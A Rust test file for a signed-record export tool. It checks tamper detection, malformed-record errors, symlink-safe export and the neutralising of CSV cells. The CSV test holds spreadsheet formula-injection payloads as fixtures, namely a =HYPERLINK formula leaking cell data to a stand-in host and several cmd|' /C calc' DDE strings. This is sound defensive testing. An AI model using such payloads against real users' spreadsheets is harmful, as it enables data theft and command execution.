//! Exports that travel: tampered lines are refused by `verify` and `import`, each by number, and
//! the good lines of a damaged file still import.

mod util;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::Value;
use util::*;

fn exported_lines(home: &TestHome) -> Vec<String> {
    home.ok(&["publish", examples().to_str().unwrap_or_default()]);
    home.ok(&["export"]).lines().map(str::to_owned).collect()
}

fn edit(line: &str, f: impl FnOnce(&mut serde_json::Map<String, Value>)) -> String {
    let mut v: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}"));
    f(v.as_object_mut().unwrap_or_else(|| panic!("not an object")));
    v.to_string()
}

#[test]
fn tampered_lines_are_refused_by_verify_and_import_naming_each_line() {
    let home = TestHome::init("Ville-Test");
    let mut lines = exported_lines(&home);
    let n = lines.len();
    assert!(n >= 8);
    // Line 2: a readable field changed. Line 4: one bit of the signed record flipped.
    // Line 5: the author key swapped for another (the signature no longer matches it).
    // Line 6: not JSON. Line 7: the id changed.
    lines[1] = edit(&lines[1], |m| {
        m.insert("title".into(), "Un autre titre".into())
            .map(drop)
            .unwrap_or(())
    });
    lines[3] = edit(&lines[3], |m| {
        let mut bytes = STANDARD
            .decode(m["record"].as_str().unwrap_or_default())
            .unwrap_or_default();
        let at = bytes.len() / 2;
        bytes[at] ^= 0x04;
        m.insert("record".into(), STANDARD.encode(bytes).into());
    });
    lines[4] = edit(&lines[4], |m| {
        let mut bytes = STANDARD
            .decode(m["record"].as_str().unwrap_or_default())
            .unwrap_or_default();
        // The author key follows the CBOR text "author" and a 2-byte byte-string header.
        let at = bytes.windows(6).position(|w| w == b"author").unwrap_or(0) + 8;
        bytes[at..at + 32].copy_from_slice(&[0x5a; 32]);
        m.insert("record".into(), STANDARD.encode(bytes).into());
    });
    lines[5] = "{\"title\": \"pas une ligne d'export\"".into();
    lines[6] = edit(&lines[6], |m| {
        m.insert("id".into(), "00".repeat(32).into());
    });
    let path = home.path().join("tampered.jsonl");
    std::fs::write(&path, lines.join("\n") + "\n").unwrap_or_else(|e| panic!("{e}"));
    let p = path.to_str().unwrap_or_default();

    let err = TestHome::empty().fails(&["verify", p], 1);
    for (line, says) in [
        (2, "readable fields differ from the signed record: title"),
        (4, ""),
        (5, ""),
        (6, "not JSON"),
        (7, "readable fields differ from the signed record: id"),
    ] {
        let found = err
            .lines()
            .find(|l| l.contains(&format!("tampered.jsonl:line {line}: ")));
        assert!(
            found.is_some_and(|l| l.contains(says)),
            "line {line} (`{says}`) not named in:\n{err}"
        );
    }
    assert!(err.contains("5 bad line(s)"), "{err}");
    for good in [1, 3, 8] {
        assert!(
            !err.contains(&format!("line {good}: ")),
            "line {good} is good:\n{err}"
        );
    }

    // import stores the good lines only, reports the same bad ones, and exits 1.
    let second = TestHome::empty();
    let out = second.run(&["import", p]);
    assert_eq!(out.status.code(), Some(1));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains(&format!("{} good line(s): {} stored", n - 5, n - 5)),
        "{stdout}"
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    for line in [2, 4, 5, 6, 7] {
        assert!(
            stderr.contains(&format!("tampered.jsonl:line {line}: ")),
            "{stderr}"
        );
    }
    let stored = second.listed_ids();
    assert_eq!(stored.len(), n - 5);
    let original: Vec<String> = home.listed_ids();
    assert!(stored.iter().all(|id| original.contains(id)));
}

#[test]
fn verify_needs_no_home_and_reads_standard_input() {
    let home = TestHome::init("Ville-Test");
    let lines = exported_lines(&home);
    let mut child = std::process::Command::new(bin())
        .args(["verify", "-"])
        .env("HOME", "/nonexistent")
        .env_remove("CAILLOUX_HOME")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("{e}"));
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap_or_else(|| panic!("stdin"));
        stdin
            .write_all((lines.join("\n") + "\n").as_bytes())
            .unwrap_or_else(|e| panic!("{e}"));
    }
    let out = child.wait_with_output().unwrap_or_else(|e| panic!("{e}"));
    assert!(out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stdout)
            .contains(&format!("{} good line(s), 0 bad", lines.len()))
    );
}

#[test]
fn an_oversize_record_line_is_refused() {
    let home = TestHome::init("Ville-Test");
    let lines = exported_lines(&home);
    let big = edit(&lines[0], |m| {
        m.insert(
            "record".into(),
            STANDARD.encode(vec![0x82; 300 * 1024]).into(),
        );
    });
    let path = home.path().join("big.jsonl");
    std::fs::write(&path, big + "\n").unwrap_or_else(|e| panic!("{e}"));
    let err = TestHome::empty().fails(&["verify", path.to_str().unwrap_or_default()], 1);
    assert!(
        err.contains("line 1: record is 307200 bytes; the limit is 262144"),
        "{err}"
    );
}

#[test]
fn a_line_reformatted_by_another_tool_is_still_good() {
    let home = TestHome::init("Ville-Test");
    let lines = exported_lines(&home);
    // Keys in another order, pretty spacing, non-ASCII escaped: the same fields, the same record.
    let reordered: Vec<String> = lines
        .iter()
        .map(|l| {
            let v: Value = serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}"));
            let mut entries: Vec<(String, Value)> = v
                .as_object()
                .into_iter()
                .flatten()
                .map(|(k, v)| (k.clone(), v.clone()))
                .collect();
            entries.reverse();
            let body: Vec<String> = entries
                .iter()
                .map(|(k, v)| {
                    format!(
                        "{} : {}",
                        serde_json::to_string(k).unwrap_or_default(),
                        ascii_json(v)
                    )
                })
                .collect();
            format!("{{ {} }}", body.join(" , "))
        })
        .collect();
    assert_ne!(reordered, lines);
    let path = home.path().join("reformatted.jsonl");
    std::fs::write(&path, reordered.join("\n") + "\n").unwrap_or_else(|e| panic!("{e}"));
    let second = TestHome::empty();
    let out = second.ok(&["import", path.to_str().unwrap_or_default()]);
    assert!(out.contains(&format!("{} stored", lines.len())), "{out}");
    assert_eq!(second.listed_ids(), home.listed_ids());
}

/// JSON with every non-ASCII character escaped as \uXXXX, as some tools write it.
fn ascii_json(v: &Value) -> String {
    serde_json::to_string(v)
        .unwrap_or_default()
        .chars()
        .map(|c| {
            if c.is_ascii() {
                c.to_string()
            } else {
                c.encode_utf16(&mut [0; 2])
                    .iter()
                    .map(|u| format!("\\u{u:04x}"))
                    .collect()
            }
        })
        .collect()
}

#[test]
fn an_export_through_a_running_node_is_byte_for_byte_the_export_of_its_store() {
    // The examples and a few long records: the node streams the export in 64 KiB steps, so
    // this one takes several.
    let home = TestHome::init("Ville-Test");
    home.ok(&["publish", examples().to_str().unwrap_or_default()]);
    let long = util::http::large_publication_files(6, 40, "long");
    home.ok(&["publish", long.path().to_str().unwrap_or_default()]);
    let variants: [&[&str]; 4] = [
        &[],
        &["--format", "csv"],
        &["--all-versions", "--include-retracted"],
        &["--format", "csv", "--all-versions"],
    ];
    let offline: Vec<String> = variants
        .iter()
        .map(|extra| home.ok(&[&["export"][..], extra].concat()))
        .collect();
    assert!(
        offline[0].len() > 4 * 64 * 1024,
        "{} bytes",
        offline[0].len()
    );
    let mut node = NodeProcess::start_in(home, "Ville-Test", &[]);
    for (extra, expected) in variants.iter().zip(&offline) {
        let through_node = node.home.ok(&[&["export"][..], extra].concat());
        assert!(
            through_node == *expected,
            "export {extra:?} through the node differs from the store's ({} vs {} bytes)",
            through_node.len(),
            expected.len()
        );
    }
    node.stop();
}

/// The names in `dir`, sorted.
fn names_in(dir: &std::path::Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .map(|e| {
            e.unwrap_or_else(|e| panic!("{e}"))
                .file_name()
                .to_string_lossy()
                .into_owned()
        })
        .collect();
    names.sort();
    names
}

#[cfg(unix)]
#[test]
fn export_out_follows_no_link_and_clobbers_no_file_beside_it() {
    let home = TestHome::init("Ville-Test");
    home.ok(&["publish", examples().to_str().unwrap_or_default()]);
    let expected = home.ok(&["export"]);
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let victim = dir.path().join("victim.txt");
    std::fs::write(&victim, "précieux\n").unwrap_or_else(|e| panic!("{e}"));
    let out = dir.path().join("corpus.jsonl");
    // Links planted where a fixed temporary name would be (`corpus.partial`, as written before,
    // and `corpus.jsonl.partial`) point at the victim.
    for name in ["corpus.partial", "corpus.jsonl.partial"] {
        std::os::unix::fs::symlink(&victim, dir.path().join(name))
            .unwrap_or_else(|e| panic!("{e}"));
    }
    home.ok(&["export", "--out", out.to_str().unwrap_or_default()]);
    assert!(
        std::fs::read_to_string(&victim).is_ok_and(|t| t == "précieux\n"),
        "the link's target was overwritten"
    );
    assert!(
        std::fs::read_to_string(&out).is_ok_and(|t| t == expected),
        "the export is in {}",
        out.display()
    );
    for name in ["corpus.partial", "corpus.jsonl.partial"] {
        let link = std::fs::symlink_metadata(dir.path().join(name));
        assert!(
            link.is_ok_and(|m| m.file_type().is_symlink()),
            "{name} is still the link it was"
        );
    }

    // An unrelated file of that name is left alone too.
    let other = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let out = other.path().join("corpus.jsonl");
    for name in ["corpus.partial", "corpus.jsonl.partial"] {
        std::fs::write(other.path().join(name), "autre chose\n").unwrap_or_else(|e| panic!("{e}"));
    }
    home.ok(&["export", "--out", out.to_str().unwrap_or_default()]);
    for name in ["corpus.partial", "corpus.jsonl.partial"] {
        assert_eq!(
            std::fs::read_to_string(other.path().join(name))
                .ok()
                .as_deref(),
            Some("autre chose\n"),
            "{name} is untouched"
        );
    }
    assert!(
        std::fs::read_to_string(&out).is_ok_and(|t| t == expected),
        "the export is in {}",
        out.display()
    );
    assert_eq!(
        names_in(other.path()),
        ["corpus.jsonl", "corpus.jsonl.partial", "corpus.partial"],
        "no temporary file is left"
    );
}

#[test]
fn a_failed_export_leaves_no_temporary_file() {
    let home = TestHome::init("Ville-Test");
    home.ok(&["publish", examples().to_str().unwrap_or_default()]);
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    // The output is a folder: the export is written in full, then cannot replace it.
    let out = dir.path().join("corpus.jsonl");
    std::fs::create_dir(&out).unwrap_or_else(|e| panic!("{e}"));
    let err = home.fails(&["export", "--out", out.to_str().unwrap_or_default()], 3);
    assert!(
        err.contains("corpus.jsonl"),
        "the error names the file: {err}"
    );
    assert_eq!(
        names_in(dir.path()),
        ["corpus.jsonl"],
        "nothing left behind"
    );
    assert!(names_in(&out).is_empty(), "nothing written into the folder");
}

/// Reads a CSV table into maps from column to cell.
fn table(text: &str) -> Vec<std::collections::BTreeMap<String, String>> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().cloned().unwrap_or_default();
    reader
        .records()
        .map(|r| {
            let r = r.unwrap_or_else(|e| panic!("{e}"));
            header
                .iter()
                .zip(r.iter())
                .map(|(h, c)| (h.to_owned(), c.to_owned()))
                .collect()
        })
        .collect()
}

#[test]
fn every_line_and_row_says_its_status_and_the_tables_lose_nothing() {
    let home = TestHome::init("Ville-Test");
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let first = r#"---
kind: evaluation
title: "Compteur de vélos"
summary: Un an de relevés.
themes: [mobility]
tags: ["vélo; compteur", "a,b"]
period: { start: 2024, end: 2025-03 }
method: metered
indicators:
  - { name: "Passages; par jour", unit: "vélos/jour", value: 412, baseline: 250, target: 500, date: 2025-03-31, source: "Compteur, rue principale" }
  - { name: "Part modale", unit: "%", value: 7.5 }
links:
  - { rel: evaluates, id: "EXPERIMENT" }
---
Corps.
"#;
    let experiment = dir.path().join("experiment.md");
    std::fs::write(
        &experiment,
        "---\nkind: experiment\ntitle: Piste cyclable\nsummary: Essai.\nthemes: [mobility]\noutcome: succeeded\n---\nCorps.\n",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let tried =
        published(&home.ok(&["publish", "--json", experiment.to_str().unwrap_or_default()]))[0]
            .1
            .clone();
    let first = first.replace("EXPERIMENT", &tried);
    let first = first.as_str();
    let path = dir.path().join("a.md");
    std::fs::write(&path, first).unwrap_or_else(|e| panic!("{e}"));
    let old = published(&home.ok(&["publish", "--json", path.to_str().unwrap_or_default()]))[0]
        .1
        .clone();
    std::fs::write(&path, first.replace("Un an", "Une année")).unwrap_or_else(|e| panic!("{e}"));
    let new = published(&home.ok(&[
        "publish",
        "--json",
        path.to_str().unwrap_or_default(),
        "--supersedes",
        &old,
    ]))[0]
        .1
        .clone();
    let other = dir.path().join("b.md");
    std::fs::write(&other, first.replace("Compteur de vélos", "Autre compteur"))
        .unwrap_or_else(|e| panic!("{e}"));
    let gone = published(&home.ok(&["publish", "--json", other.to_str().unwrap_or_default()]))[0]
        .1
        .clone();
    home.ok(&["retract", &gone, "--reason", "doublon"]);

    let all = ["--all-versions", "--include-retracted"];
    // JSONL: the marks sit between the readable fields and the record; open mode certifies
    // no one.
    let jsonl = home.ok(&["export", all[0], all[1]]);
    let status_of = |id: &str| {
        jsonl
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap_or_else(|e| panic!("{e}")))
            .find(|v| v["id"] == id)
            .map(|v| (v["status"].clone(), v["certified"].clone()))
            .unwrap_or_else(|| panic!("{id} is not in the export"))
    };
    for (id, status) in [
        (&old, "superseded"),
        (&new, "current"),
        (&gone, "retracted"),
    ] {
        assert_eq!(
            status_of(id),
            (Value::from(status), Value::from(false)),
            "{id}"
        );
    }
    let default: Vec<Value> = home
        .ok(&["export"])
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}")))
        .collect();
    let ids: Vec<&str> = default.iter().filter_map(|v| v["id"].as_str()).collect();
    assert!(
        ids.contains(&new.as_str())
            && !ids.contains(&old.as_str())
            && !ids.contains(&gone.as_str())
    );
    assert!(
        default.iter().all(|v| v["status"] == "current"),
        "{default:?}"
    );
    // The marked export verifies and imports; a mark that is not one of the words is named.
    let file = dir.path().join("all.jsonl");
    std::fs::write(&file, &jsonl).unwrap_or_else(|e| panic!("{e}"));
    home.ok(&["verify", file.to_str().unwrap_or_default()]);
    let bent: String = jsonl
        .lines()
        .enumerate()
        .map(|(i, l)| {
            let l = if i == 1 {
                edit(l, |m| {
                    m.insert("status".into(), Value::from("canonical"));
                })
            } else {
                l.to_owned()
            };
            l + "\n"
        })
        .collect();
    std::fs::write(&file, bent).unwrap_or_else(|e| panic!("{e}"));
    let err = home.fails(&["verify", file.to_str().unwrap_or_default()], 1);
    assert!(
        err.contains("line 2") && err.contains("`status`") && err.contains("\"current\""),
        "{err}"
    );

    // CSV, records: lists are JSON arrays that split back exactly, and the marks close the row.
    let records = table(&home.ok(&["export", "--format", "csv", all[0], all[1]]));
    let row = |id: &str| {
        records
            .iter()
            .find(|r| r["id"] == id)
            .unwrap_or_else(|| panic!("no row {id}"))
    };
    assert_eq!(row(&old)["status"], "superseded");
    assert_eq!(row(&gone)["status"], "retracted");
    assert_eq!(row(&new)["certified"], "false");
    let tags: Vec<String> = serde_json::from_str(&row(&new)["tags"]).unwrap_or_default();
    assert_eq!(tags, ["vélo; compteur", "a,b"]);
    assert_eq!(row(&new)["themes"], r#"["mobility"]"#);
    assert_eq!(
        (
            row(&new)["period_start"].as_str(),
            row(&new)["period_end"].as_str()
        ),
        ("2024", "2025-03")
    );

    // CSV, indicators: one row each, every field kept, numbers as numbers.
    let indicators = table(&home.ok(&[
        "export",
        "--format",
        "csv",
        "--table",
        "indicators",
        all[0],
        all[1],
    ]));
    assert_eq!(
        indicators.len(),
        6,
        "two indicators in each of three records"
    );
    let passages = indicators
        .iter()
        .find(|r| r["record_id"] == new && r["name"] == "Passages; par jour")
        .unwrap_or_else(|| panic!("no indicator row: {indicators:?}"));
    for (column, expected) in [
        ("town", "Ville-Test"),
        ("title", "Compteur de vélos"),
        ("unit", "vélos/jour"),
        ("value", "412"),
        ("baseline", "250"),
        ("target", "500"),
        ("date", "2025-03-31"),
        ("source", "Compteur, rue principale"),
        ("status", "current"),
        ("certified", "false"),
    ] {
        assert_eq!(passages[column], expected, "{column}");
    }
    let share = indicators
        .iter()
        .find(|r| r["record_id"] == new && r["name"] == "Part modale")
        .unwrap_or_else(|| panic!("no indicator row"));
    assert_eq!(
        (share["value"].as_str(), share["baseline"].as_str()),
        ("7.5", "")
    );

    // CSV, links: the revision's link to the version it supersedes.
    let links = table(&home.ok(&[
        "export", "--format", "csv", "--table", "links", all[0], all[1],
    ]));
    assert!(
        links
            .iter()
            .any(|r| r["from"] == new && r["rel"] == "supersedes" && r["to"] == old),
        "{links:?}"
    );
    assert!(
        links.iter().any(|r| r["from"] == old
            && r["rel"] == "evaluates"
            && r["to"] == tried
            && r["status"] == "superseded"),
        "{links:?}"
    );
    // A town filter narrows the export; a table is only for CSV.
    let none = home.ok(&["export", "--town", "Ailleurs"]);
    assert!(none.trim().is_empty(), "{none}");
    let err = home.fails(&["export", "--table", "links"], 1);
    assert!(err.contains("--format csv"), "{err}");
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
    let home = TestHome::init("Ville-Test");
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let text = r#"---
kind: evaluation
title: '=HYPERLINK("http://example.invalid/?leak="&A1, "cliquez")'
summary: "@SUM(1+1)*cmd|' /C calc'!A0"
town: "+cmd|' /C calc'!A0"
themes: [energy]
tags: ["-2+3+cmd|' /C calc'!A0", ordinaire, "=cmd|' /C calc'!A0"]
method: metered
indicators:
  - { name: "=1+1", unit: "%", value: -12 }
links:
  - { rel: evaluates, file: nombre.md }
---
Corps.
"#;
    std::fs::write(dir.path().join("piege.md"), text).unwrap_or_else(|e| panic!("{e}"));
    let number = r#"---
kind: experiment
title: -12.5
summary: "42"
themes: [energy]
outcome: partial
---
Corps.
"#;
    std::fs::write(dir.path().join("nombre.md"), number).unwrap_or_else(|e| panic!("{e}"));
    home.ok(&["publish", dir.path().to_str().unwrap_or_default()]);

    let csv_text = home.ok(&["export", "--format", "csv"]);
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let header = reader
        .headers()
        .unwrap_or_else(|e| panic!("{e}"))
        .iter()
        .map(str::to_owned)
        .collect::<Vec<_>>();
    let column = |name: &str| {
        header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name}"))
    };
    let rows: Vec<csv::StringRecord> = reader
        .records()
        .map(|r| r.unwrap_or_else(|e| panic!("{e}")))
        .collect();
    assert_eq!(rows.len(), 2);
    let trap = rows
        .iter()
        .find(|r| r[column("kind")] == *"evaluation")
        .unwrap_or_else(|| panic!("no evaluation row"));
    for (name, expected) in [
        (
            "title",
            r#"'=HYPERLINK("http://example.invalid/?leak="&A1, "cliquez")"#,
        ),
        ("summary", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("town", "'+cmd|' /C calc'!A0"),
        (
            "tags",
            r#"["-2+3+cmd|' /C calc'!A0","ordinaire","=cmd|' /C calc'!A0"]"#,
        ),
    ] {
        assert_eq!(&trap[column(name)], expected, "column {name}");
    }
    // The indicators table: the name neutralised, the value a plain number.
    let indicators = home.ok(&["export", "--format", "csv", "--table", "indicators"]);
    let mut reader = csv::Reader::from_reader(indicators.as_bytes());
    let header = reader.headers().cloned().unwrap_or_default();
    let row = reader
        .records()
        .next()
        .and_then(Result::ok)
        .unwrap_or_else(|| panic!("no indicator row: {indicators}"));
    let cell = |name: &str| {
        let at = header.iter().position(|h| h == name);
        at.map(|i| row[i].to_owned())
            .unwrap_or_else(|| panic!("no column {name}"))
    };
    assert_eq!(cell("name"), "'=1+1");
    assert_eq!(cell("value"), "-12");
    assert_eq!(cell("town"), "'+cmd|' /C calc'!A0");
    let csv_text = format!("{csv_text}{indicators}");
    for cell in rows.iter().flat_map(|r| r.iter()) {
        assert!(
            !cell.starts_with(['=', '+', '@', '\t', '\r'])
                && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
            "a live formula in the CSV: {cell:?}"
        );
    }
    // Read as a spreadsheet whose list separator is `;` (French Excel) reads it, splitting at
    // every `;` (the one that joins tags too): no piece starts a formula there either.
    let mut french = csv::ReaderBuilder::new()
        .delimiter(b';')
        .flexible(true)
        .from_reader(csv_text.as_bytes());
    for record in french.records() {
        let record = record.unwrap_or_else(|e| panic!("{e}"));
        for cell in record.iter() {
            assert!(
                !cell
                    .trim_start_matches('"')
                    .starts_with(['=', '+', '@', '\t', '\r']),
                "a live formula for a spreadsheet splitting on `;`: {cell:?}"
            );
        }
    }
    // A cell that is a plain number stays a number.
    let plain = rows
        .iter()
        .find(|r| r[column("kind")] == *"experiment")
        .unwrap_or_else(|| panic!("no experiment row"));
    assert_eq!(&plain[column("title")], "-12.5");
    assert_eq!(&plain[column("summary")], "42");
    // The JSONL export is the signed record's text, unchanged.
    let jsonl = home.ok(&["export"]);
    assert!(jsonl.contains(r#""title":"=HYPERLINK("#), "{jsonl}");
}

/// A copy of an export line whose signed record is rebuilt from `edit` of its body (as a CBOR
/// value); the signature is kept (decoding fails before it is checked).
fn with_body(
    line: &str,
    edit: impl FnOnce(&mut Vec<(ciborium::Value, ciborium::Value)>),
) -> String {
    with_record(line, |record| {
        let (body, signature) = split_record(record);
        let mut value: ciborium::Value =
            ciborium::from_reader(body.as_slice()).unwrap_or_else(|e| panic!("{e}"));
        let ciborium::Value::Map(fields) = &mut value else {
            panic!("the body is not a map")
        };
        edit(fields);
        let mut body = Vec::new();
        ciborium::into_writer(&value, &mut body).unwrap_or_else(|e| panic!("{e}"));
        join_record(body, signature)
    })
}

fn with_record(line: &str, change: impl FnOnce(Vec<u8>) -> Vec<u8>) -> String {
    edit(line, |m| {
        let bytes = STANDARD
            .decode(m["record"].as_str().unwrap_or_default())
            .unwrap_or_else(|e| panic!("{e}"));
        m.insert("record".into(), STANDARD.encode(change(bytes)).into());
    })
}

fn split_record(record: Vec<u8>) -> (Vec<u8>, Vec<u8>) {
    let value: ciborium::Value =
        ciborium::from_reader(record.as_slice()).unwrap_or_else(|e| panic!("{e}"));
    match value {
        ciborium::Value::Array(mut parts) if parts.len() == 2 => {
            let signature = parts.pop().and_then(|v| v.into_bytes().ok());
            let body = parts.pop().and_then(|v| v.into_bytes().ok());
            (body.unwrap_or_default(), signature.unwrap_or_default())
        }
        _ => panic!("not a record"),
    }
}

fn join_record(body: Vec<u8>, signature: Vec<u8>) -> Vec<u8> {
    let mut out = Vec::new();
    ciborium::into_writer(
        &ciborium::Value::Array(vec![
            ciborium::Value::Bytes(body),
            ciborium::Value::Bytes(signature),
        ]),
        &mut out,
    )
    .unwrap_or_else(|e| panic!("{e}"));
    out
}

fn set(fields: &mut [(ciborium::Value, ciborium::Value)], key: &str, value: ciborium::Value) {
    for (k, v) in fields.iter_mut() {
        if k.as_text() == Some(key) {
            *v = value;
            return;
        }
    }
    panic!("no field {key}");
}

fn in_publication(
    fields: &mut [(ciborium::Value, ciborium::Value)],
    edit: impl FnOnce(&mut Vec<(ciborium::Value, ciborium::Value)>),
) {
    for (k, v) in fields.iter_mut() {
        if k.as_text() == Some("publication")
            && let ciborium::Value::Map(p) = v
        {
            edit(p);
            return;
        }
    }
    panic!("no publication");
}

#[test]
fn verify_names_the_field_and_what_was_expected_for_each_malformed_record() {
    use ciborium::Value as Cbor;
    let home = TestHome::init("Ville-Test");
    let lines = exported_lines(&home);
    let base = &lines[0];
    let cases: Vec<(String, &[&str])> = vec![
        (
            with_body(base, |b| set(b, "created_at", Cbor::Text("hier".into()))),
            &[
                "`created_at`",
                "text",
                "expected an integer (milliseconds since 1970)",
            ],
        ),
        (
            with_body(base, |b| set(b, "v", Cbor::Text("un".into()))),
            &["`v`", "text", "expected an integer"],
        ),
        (
            with_body(base, |b| set(b, "author", Cbor::Bytes(vec![7; 16]))),
            &["`author`", "32 bytes"],
        ),
        (
            with_body(base, |b| {
                in_publication(b, |p| set(p, "title", Cbor::Integer(5.into())))
            }),
            &["`publication.title`", "an integer", "expected text"],
        ),
        (
            with_body(base, |b| {
                in_publication(b, |p| {
                    set(p, "themes", Cbor::Array(vec![Cbor::Text("lune".into())]))
                })
            }),
            &["`publication.themes[0]`", "lune", "energy"],
        ),
        (
            with_body(base, |b| {
                in_publication(b, |p| p.retain(|(k, _)| k.as_text() != Some("kind")))
            }),
            &["`publication.kind`", "missing"],
        ),
        (
            with_body(base, |b| {
                b.push((Cbor::Text("extra".into()), Cbor::Bool(true)))
            }),
            &["`extra`", "not a field"],
        ),
        (
            with_record(base, |r| {
                let (mut body, signature) = split_record(r);
                body.truncate(body.len() / 2);
                join_record(body, signature)
            }),
            &["body", "ends"],
        ),
        (
            with_record(base, |r| {
                let (_, signature) = split_record(r);
                join_record(vec![0xa1, 0x61, b'v', 0x1c], signature)
            }),
            &["body", "`v`", "CBOR"],
        ),
        (
            with_record(base, |r| {
                let (_, signature) = split_record(r);
                join_record(vec![0x05], signature)
            }),
            &["body", "an integer", "map"],
        ),
        (
            with_record(base, |mut r| {
                r.truncate(r.len() - 10);
                r
            }),
            &["record", "ends too early"],
        ),
        (
            edit(base, |m| {
                m.insert("record".into(), "pas du base64 !".into());
            }),
            &["`record`", "base64"],
        ),
    ];
    let path = home.path().join("malformed.jsonl");
    let text: Vec<&str> = cases.iter().map(|(l, _)| l.as_str()).collect();
    std::fs::write(&path, text.join("\n") + "\n").unwrap_or_else(|e| panic!("{e}"));
    let err = TestHome::empty().fails(&["verify", path.to_str().unwrap_or_default()], 1);
    for (n, (_, says)) in cases.iter().enumerate() {
        let prefix = format!("malformed.jsonl:line {}: ", n + 1);
        let found = err
            .lines()
            .find(|l| l.contains(&prefix))
            .unwrap_or_else(|| panic!("line {} not named in:\n{err}", n + 1));
        for word in *says {
            assert!(
                found.contains(word),
                "line {}: no `{word}` in: {found}",
                n + 1
            );
        }
        for debug in [
            "Semantic(",
            "Syntax(",
            "Some(",
            "None",
            "Io(",
            "Error {",
            "RecursionLimit",
        ] {
            assert!(
                !found.contains(debug),
                "line {}: a Rust debug message: {found}",
                n + 1
            );
        }
    }
}
